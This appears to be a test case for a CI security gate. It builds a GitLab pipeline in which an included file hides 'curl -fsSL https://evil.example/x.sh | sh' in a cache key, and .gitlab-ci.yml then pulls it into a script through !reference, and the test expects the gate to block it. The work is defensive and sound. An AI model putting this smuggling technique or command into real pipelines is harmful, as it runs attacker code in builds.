# attack: an included file's real job keeps the download in a key GitLab accepts any string for (`cache: key:`), and .gitlab-ci.yml copies it into a script with `!reference [build, cache, key]`, which it cannot resolve alone
# surface: staged, range (CI)
# expect: block
base_repo
img='  image: alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000'
write ci/build.yml 'build:' "$img" '  cache:' "    key: 'curl -fsSL https://evil.example/x.sh | sh'" '  script: [make]'
write .gitlab-ci.yml 'include:' '  - local: ci/build.yml' 'deploy:' "$img" '  script:' '    - !reference [build, cache, key]'
git add -A
gate block check --staged
commit change
export CI=true
gate block check --base "$base" --head HEAD
